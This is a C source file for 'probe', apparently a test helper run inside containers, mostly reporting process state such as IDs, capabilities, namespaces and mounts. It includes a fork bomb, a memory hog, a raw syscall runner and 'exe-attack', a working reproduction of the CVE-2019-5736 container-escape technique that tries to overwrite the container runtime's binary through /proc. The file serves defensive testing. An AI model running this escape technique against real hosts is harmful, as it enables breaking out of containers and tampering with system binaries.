/* SPDX-License-Identifier: Apache-2.0 */
/* probe: a static multi-call program run inside test containers, which
   reports what a test needs to check, one "key=value" or raw line at a
   time.  `probe CMD [ARGS]`; several commands may be chained with `--`
   between them: `probe pid -- ids -- fds`.  */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static int
cat_file (const char *path)
{
  FILE *f = fopen (path, "re");
  if (f == NULL)
    {
      printf ("error=%s: %s\n", path, strerror (errno));
      return 1;
    }
  char buf[4096];
  size_t n;
  while ((n = fread (buf, 1, sizeof buf, f)) > 0)
    fwrite (buf, 1, n, stdout);
  fclose (f);
  return 0;
}

static int
status_field (const char *field)
{
  FILE *f = fopen ("/proc/self/status", "re");
  if (f == NULL)
    return 1;
  char line[512];
  size_t fl = strlen (field);
  int found = 1;
  while (fgets (line, sizeof line, f))
    if (strncmp (line, field, fl) == 0 && line[fl] == ':')
      {
        char *v = line + fl + 1;
        while (*v == ' ' || *v == '\t')
          v++;
        printf ("%s=%s", field, v);
        found = 0;
      }
  fclose (f);
  return found;
}

static int
list_fds (void)
{
  DIR *d = opendir ("/proc/self/fd");
  if (d == NULL)
    {
      printf ("error=/proc/self/fd: %s\n", strerror (errno));
      return 1;
    }
  int self = dirfd (d);
  struct dirent *de;
  printf ("fds=");
  int first = 1;
  int fds[1024], n = 0;
  while ((de = readdir (d)) != NULL && n < 1024)
    {
      if (de->d_name[0] == '.')
        continue;
      int fd = atoi (de->d_name);
      if (fd == self)
        continue;
      fds[n++] = fd;
    }
  closedir (d);
  for (int i = 0; i < n; i++)
    for (int k = i + 1; k < n; k++)
      if (fds[k] < fds[i])
        {
          int t = fds[i];
          fds[i] = fds[k];
          fds[k] = t;
        }
  for (int i = 0; i < n; i++)
    {
      printf ("%s%d", first ? "" : ",", fds[i]);
      first = 0;
    }
  printf ("\n");
  for (int i = 0; i < n; i++)
    {
      char p[64], t[4096];
      snprintf (p, sizeof p, "/proc/self/fd/%d", fds[i]);
      ssize_t l = readlink (p, t, sizeof t - 1);
      if (l >= 0)
        {
          t[l] = 0;
          printf ("fd%d=%s\n", fds[i], t);
        }
    }
  return 0;
}

static const struct
{
  const char *name;
  int res;
} rlims[]
    = { { "RLIMIT_NOFILE", RLIMIT_NOFILE }, { "RLIMIT_NPROC", RLIMIT_NPROC },     { "RLIMIT_CORE", RLIMIT_CORE },
        { "RLIMIT_STACK", RLIMIT_STACK },   { "RLIMIT_AS", RLIMIT_AS },           { "RLIMIT_CPU", RLIMIT_CPU },
        { "RLIMIT_FSIZE", RLIMIT_FSIZE },   { "RLIMIT_MEMLOCK", RLIMIT_MEMLOCK }, { "RLIMIT_NICE", RLIMIT_NICE } };

/* Run a syscall by name with integer arguments; print ret and errno.  */
static int
do_syscall (int argc, char **argv)
{
  if (argc < 1)
    return 2;
  static const struct
  {
    const char *n;
    long nr;
  } tab[] = {
    { "getpid", SYS_getpid },
    { "getppid", SYS_getppid },
    { "uname", SYS_uname },
    { "mkdir", SYS_mkdir },
    { "chdir", SYS_chdir },
    { "mount", SYS_mount },
    { "umount2", SYS_umount2 },
    { "setns", SYS_setns },
    { "unshare", SYS_unshare },
    { "personality", SYS_personality },
    { "getcwd", SYS_getcwd },
    { "sync", SYS_sync },
    { "kill", SYS_kill },
    { "getuid", SYS_getuid },
    { "setuid", SYS_setuid },
    { "socket", SYS_socket },
    { "chmod", SYS_chmod },
    { "reboot", SYS_reboot },
    { "swapon", SYS_swapon },
    { "getrandom", SYS_getrandom },
    { "sethostname", SYS_sethostname },
    { "dup", SYS_dup },
    { "close", SYS_close },
    { "getpgrp", SYS_getpgrp },
    { "acct", SYS_acct },
  };
  long nr = -1;
  for (size_t i = 0; i < sizeof tab / sizeof tab[0]; i++)
    if (strcmp (tab[i].n, argv[0]) == 0)
      nr = tab[i].nr;
  if (nr < 0)
    nr = strtol (argv[0], NULL, 0);
  long a[6] = { 0 };
  char bufs[6][256];
  for (int i = 1; i < argc && i <= 6; i++)
    {
      char *end;
      a[i - 1] = strtol (argv[i], &end, 0);
      if (*end)
        {
          /* A string argument: pass a pointer to it.  */
          snprintf (bufs[i - 1], sizeof bufs[i - 1], "%s", argv[i]);
          a[i - 1] = (long) bufs[i - 1];
        }
    }
  errno = 0;
  long r = syscall (nr, a[0], a[1], a[2], a[3], a[4], a[5]);
  printf ("syscall=%s ret=%ld errno=%d\n", argv[0], r, r < 0 ? errno : 0);
  return 0;
}

static int
memhog (long mb)
{
  size_t len = (size_t) mb << 20;
  char *p = mmap (NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (p == MAP_FAILED)
    {
      printf ("memhog=mmap-failed\n");
      return 1;
    }
  for (size_t off = 0; off < len; off += 4096)
    p[off] = 1;
  printf ("memhog=%ld\n", mb);
  return 0;
}

static int
forkbomb (int n)
{
  int ok = 0;
  pid_t kids[4096];
  for (int i = 0; i < n && i < 4096; i++)
    {
      pid_t p = fork ();
      if (p == 0)
        {
          pause ();
          _exit (0);
        }
      if (p < 0)
        break;
      kids[ok++] = p;
    }
  printf ("forked=%d\n", ok);
  fflush (stdout);
  for (int i = 0; i < ok; i++)
    kill (kids[i], SIGKILL);
  for (int i = 0; i < ok; i++)
    waitpid (kids[i], NULL, 0);
  return 0;
}

/* exe-attack SECONDS: the pattern of CVE-2019-5736.  Open /proc/PID/exe
   of every other process that shows up (a runtime entering the container
   is one), and keep trying to reopen what was opened for writing, as the
   attack does once the runtime has exited.  Prints opened=PID TARGET for
   each link opened, written=PID when a write went through, and
   attack=written or attack=failed.  */
static int
exe_attack (double seconds)
{
  int fds[256];
  int pids[256];
  int n = 0, written = 0;
  pid_t self = getpid ();
  struct timespec t0, now;
  clock_gettime (CLOCK_MONOTONIC, &t0);
  for (;;)
    {
      clock_gettime (CLOCK_MONOTONIC, &now);
      if ((double) (now.tv_sec - t0.tv_sec) + (double) (now.tv_nsec - t0.tv_nsec) / 1e9 > seconds)
        break;
      DIR *d = opendir ("/proc");
      struct dirent *de;
      while (d && (de = readdir (d)) != NULL && n < 256)
        {
          int pid = atoi (de->d_name);
          int seen = 0;
          if (pid <= 0 || pid == self)
            continue;
          for (int i = 0; i < n; i++)
            seen |= pids[i] == pid;
          if (seen)
            continue;
          char p[64], t[4096];
          snprintf (p, sizeof p, "/proc/%d/exe", pid);
          int fd = open (p, O_PATH | O_CLOEXEC);
          if (fd < 0)
            continue;
          ssize_t l = readlink (p, t, sizeof t - 1);
          t[l > 0 ? l : 0] = '\0';
          fds[n] = fd;
          pids[n++] = pid;
          printf ("opened=%d %s\n", pid, t);
          fflush (stdout);
        }
      if (d)
        closedir (d);
      for (int i = 0; i < n && ! written; i++)
        {
          char q[64];
          snprintf (q, sizeof q, "/proc/self/fd/%d", fds[i]);
          int w = open (q, O_WRONLY | O_CLOEXEC);
          if (w < 0)
            continue;
          if (write (w, "#!/bin/sh\necho pwned\n", 21) == 21)
            {
              printf ("written=%d\n", pids[i]);
              written = 1;
            }
          close (w);
        }
      if (written)
        break;
      usleep (2000);
    }
  printf ("attack=%s\n", written ? "written" : "failed");
  return 0;
}

/* exec PATH [ARGS]: run PATH in a child; print exec=STATUS, or
   exec=error errno=N when execve itself failed.  */
static int
exec_child (int argc, char **argv)
{
  int pfd[2];
  if (pipe2 (pfd, O_CLOEXEC) < 0)
    return 1;
  fflush (stdout);
  pid_t pid = fork ();
  if (pid == 0)
    {
      char *args[64];
      int k = 0;
      for (int i = 0; i < argc && k < 63; i++)
        args[k++] = argv[i];
      args[k] = NULL;
      execv (argv[0], args);
      int e = errno;
      if (write (pfd[1], &e, sizeof e) < 0)
        _exit (127);
      _exit (127);
    }
  close (pfd[1]);
  int e = 0, status = 0;
  ssize_t r = read (pfd[0], &e, sizeof e);
  close (pfd[0]);
  waitpid (pid, &status, 0);
  if (r == (ssize_t) sizeof e)
    printf ("exec=error errno=%d\n", e);
  else
    printf ("exec=%d\n", WIFEXITED (status) ? WEXITSTATUS (status) : 128 + WTERMSIG (status));
  return 0;
}

static int
run1 (int argc, char **argv)
{
  const char *cmd = argv[0];
  if (strcmp (cmd, "pid") == 0)
    printf ("pid=%d\nppid=%d\n", (int) getpid (), (int) getppid ());
  else if (strcmp (cmd, "hostname") == 0)
    {
      struct utsname u;
      uname (&u);
      printf ("hostname=%s\ndomainname=%s\n", u.nodename, u.domainname);
    }
  else if (strcmp (cmd, "ids") == 0)
    {
      gid_t g[64];
      int n = getgroups (64, g);
      printf ("uid=%d\ngid=%d\neuid=%d\negid=%d\ngroups=", (int) getuid (), (int) getgid (), (int) geteuid (),
              (int) getegid ());
      for (int i = 0; i < n; i++)
        printf ("%s%d", i ? "," : "", (int) g[i]);
      printf ("\n");
    }
  else if (strcmp (cmd, "caps") == 0)
    {
      const char *f[] = { "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb" };
      for (int i = 0; i < 5; i++)
        status_field (f[i]);
    }
  else if (strcmp (cmd, "status") == 0 && argc > 1)
    return status_field (argv[1]);
  else if (strcmp (cmd, "fds") == 0)
    return list_fds ();
  else if (strcmp (cmd, "ns") == 0 && argc > 1)
    {
      char p[64], t[256];
      snprintf (p, sizeof p, "/proc/self/ns/%s", argv[1]);
      ssize_t l = readlink (p, t, sizeof t - 1);
      if (l < 0)
        {
          printf ("error=%s: %s\n", p, strerror (errno));
          return 1;
        }
      t[l] = 0;
      printf ("ns_%s=%s\n", argv[1], t);
    }
  else if (strcmp (cmd, "mounts") == 0)
    return cat_file ("/proc/self/mountinfo");
  else if (strcmp (cmd, "cgroup") == 0)
    return cat_file ("/proc/self/cgroup");
  else if (strcmp (cmd, "cat") == 0 && argc > 1)
    return cat_file (argv[1]);
  else if (strcmp (cmd, "write") == 0 && argc > 2)
    {
      int fd = open (argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
      if (fd < 0 || write (fd, argv[2], strlen (argv[2])) < 0)
        {
          printf ("write=error errno=%d (%s)\n", errno, strerror (errno));
          return 1;
        }
      close (fd);
      printf ("write=ok\n");
    }
  else if (strcmp (cmd, "stat") == 0 && argc > 1)
    {
      struct stat st;
      if (lstat (argv[1], &st) < 0)
        {
          printf ("stat=error errno=%d\n", errno);
          return 1;
        }
      printf ("mode=%o\nuid=%d\ngid=%d\nrdev=%u:%u\ntype=%s\n", st.st_mode & 07777, (int) st.st_uid, (int) st.st_gid,
              major (st.st_rdev), minor (st.st_rdev),
              S_ISDIR (st.st_mode)    ? "dir"
              : S_ISREG (st.st_mode)  ? "file"
              : S_ISCHR (st.st_mode)  ? "char"
              : S_ISBLK (st.st_mode)  ? "block"
              : S_ISLNK (st.st_mode)  ? "symlink"
              : S_ISFIFO (st.st_mode) ? "fifo"
                                      : "other");
    }
  else if (strcmp (cmd, "ls") == 0 && argc > 1)
    {
      DIR *d = opendir (argv[1]);
      if (d == NULL)
        {
          printf ("ls=error errno=%d\n", errno);
          return 1;
        }
      struct dirent *de;
      while ((de = readdir (d)) != NULL)
        if (de->d_name[0] != '.')
          printf ("%s\n", de->d_name);
      closedir (d);
    }
  else if (strcmp (cmd, "sleep") == 0 && argc > 1)
    {
      double s = atof (argv[1]);
      struct timespec ts = { (time_t) s, (long) ((s - (time_t) s) * 1e9) };
      nanosleep (&ts, NULL);
    }
  else if (strcmp (cmd, "pause") == 0)
    {
      printf ("ready\n");
      fflush (stdout);
      for (;;)
        pause ();
    }
  else if (strcmp (cmd, "exit") == 0 && argc > 1)
    {
      fflush (stdout);
      _exit (atoi (argv[1]));
    }
  else if (strcmp (cmd, "kill-self") == 0 && argc > 1)
    {
      fflush (stdout);
      signal (atoi (argv[1]), SIG_DFL);
      kill (getpid (), atoi (argv[1]));
      pause ();
    }
  else if (strcmp (cmd, "rlimit") == 0 && argc > 1)
    {
      for (size_t i = 0; i < sizeof rlims / sizeof rlims[0]; i++)
        if (strcmp (rlims[i].name, argv[1]) == 0)
          {
            struct rlimit r;
            getrlimit (rlims[i].res, &r);
            printf ("soft=%llu\nhard=%llu\n", (unsigned long long) r.rlim_cur, (unsigned long long) r.rlim_max);
          }
    }
  else if (strcmp (cmd, "env") == 0)
    {
      extern char **environ;
      for (char **e = environ; *e; e++)
        printf ("%s\n", *e);
    }
  else if (strcmp (cmd, "cwd") == 0)
    {
      char buf[4096];
      printf ("cwd=%s\n", getcwd (buf, sizeof buf) ? buf : "(error)");
    }
  else if (strcmp (cmd, "umask") == 0)
    {
      mode_t m = umask (0);
      printf ("umask=%04o\n", (unsigned) m);
    }
  else if (strcmp (cmd, "isatty") == 0)
    {
      struct winsize ws = { 0 };
      ioctl (0, TIOCGWINSZ, &ws);
      printf ("isatty0=%d\nisatty1=%d\nrows=%d\ncols=%d\n", isatty (0), isatty (1), ws.ws_row, ws.ws_col);
      char *t = ttyname (0);
      printf ("tty=%s\n", t ? t : "none");
    }
  else if (strcmp (cmd, "syscall") == 0)
    return do_syscall (argc - 1, argv + 1);
  else if (strcmp (cmd, "memhog") == 0 && argc > 1)
    return memhog (atol (argv[1]));
  else if (strcmp (cmd, "forkbomb") == 0 && argc > 1)
    return forkbomb (atoi (argv[1]));
  else if (strcmp (cmd, "busyloop") == 0)
    {
      volatile unsigned long x = 0;
      for (;;)
        x++;
    }
  else if (strcmp (cmd, "sched") == 0)
    {
      int pol = sched_getscheduler (0);
      errno = 0;
      int nice = getpriority (PRIO_PROCESS, 0);
      struct sched_param sp;
      sched_getparam (0, &sp);
      printf ("policy=%d\nnice=%d\npriority=%d\n", pol, nice, sp.sched_priority);
    }
  else if (strcmp (cmd, "ioprio") == 0)
    {
      long r = syscall (SYS_ioprio_get, 1, 0);
      printf ("ioprio_class=%ld\nioprio_level=%ld\n", r >> 13, r & 0xff);
    }
  else if (strcmp (cmd, "personality") == 0)
    printf ("personality=0x%x\n", personality (0xffffffff));
  else if (strcmp (cmd, "affinity") == 0)
    {
      cpu_set_t set;
      sched_getaffinity (0, sizeof set, &set);
      printf ("cpus=");
      int first = 1;
      for (int i = 0; i < CPU_SETSIZE; i++)
        if (CPU_ISSET (i, &set))
          {
            printf ("%s%d", first ? "" : ",", i);
            first = 0;
          }
      printf ("\n");
    }
  else if (strcmp (cmd, "keyring") == 0)
    {
      /* The session keyring's description: type;uid;gid;perm;name.  */
      char buf[256];
      long r = syscall (SYS_keyctl, 6 /* KEYCTL_DESCRIBE */, -3 /* KEY_SPEC_SESSION_KEYRING */, buf, sizeof buf);
      if (r < 0)
        printf ("keyring=error errno=%d\n", errno);
      else
        {
          buf[sizeof buf - 1] = 0;
          const char *name = strrchr (buf, ';');
          printf ("keyring=%s\n", name ? name + 1 : buf);
        }
    }
  else if (strcmp (cmd, "clock") == 0)
    {
      struct timespec m, b;
      clock_gettime (CLOCK_MONOTONIC, &m);
      clock_gettime (CLOCK_BOOTTIME, &b);
      printf ("monotonic=%lld\nboottime=%lld\n", (long long) m.tv_sec, (long long) b.tv_sec);
    }
  else if (strcmp (cmd, "oom") == 0)
    return cat_file ("/proc/self/oom_score_adj");
  else if (strcmp (cmd, "exe-attack") == 0 && argc > 1)
    return exe_attack (atof (argv[1]));
  else if (strcmp (cmd, "exec") == 0 && argc > 1)
    return exec_child (argc - 1, argv + 1);
  else if (strcmp (cmd, "readlink") == 0 && argc > 1)
    {
      char t[4096];
      ssize_t l = readlink (argv[1], t, sizeof t - 1);
      if (l < 0)
        {
          printf ("readlink=error errno=%d\n", errno);
          return 1;
        }
      t[l] = 0;
      printf ("link=%s\n", t);
    }
  else if (strcmp (cmd, "mkdir") == 0 && argc > 1)
    {
      if (mkdir (argv[1], 0755) < 0)
        {
          printf ("mkdir=error errno=%d\n", errno);
          return 1;
        }
      printf ("mkdir=ok\n");
    }
  else if (strcmp (cmd, "uname") == 0)
    {
      struct utsname u;
      uname (&u);
      printf ("machine=%s\n", u.machine);
    }
  else if (strcmp (cmd, "echo") == 0)
    {
      for (int i = 1; i < argc; i++)
        printf ("%s%s", argv[i], i + 1 < argc ? " " : "\n");
    }
  else if (strcmp (cmd, "stdin") == 0)
    {
      char buf[4096];
      ssize_t n;
      while ((n = read (0, buf, sizeof buf)) > 0)
        fwrite (buf, 1, (size_t) n, stdout);
    }
  else
    {
      fprintf (stderr, "probe: unknown command %s\n", cmd);
      return 2;
    }
  return 0;
}

int
main (int argc, char **argv)
{
  /* When called through a symlink named after a command (e.g. /bin/pid). */
  const char *base = strrchr (argv[0], '/');
  base = base ? base + 1 : argv[0];
  if (strcmp (base, "probe") != 0)
    {
      argv[0] = (char *) base;
      return run1 (argc, argv);
    }
  if (argc < 2)
    {
      fprintf (stderr, "usage: probe CMD [ARGS] [-- CMD [ARGS]]...\n");
      return 2;
    }
  int rc = 0;
  int start = 1;
  for (int i = 1; i <= argc; i++)
    if (i == argc || strcmp (argv[i], "--") == 0)
      {
        if (i > start)
          {
            char *saved = argv[i < argc ? i : argc];
            if (i < argc)
              argv[i] = NULL;
            rc |= run1 (i - start, argv + start);
            fflush (stdout);
            if (i < argc)
              argv[i] = saved;
          }
        start = i + 1;
      }
  return rc;
}
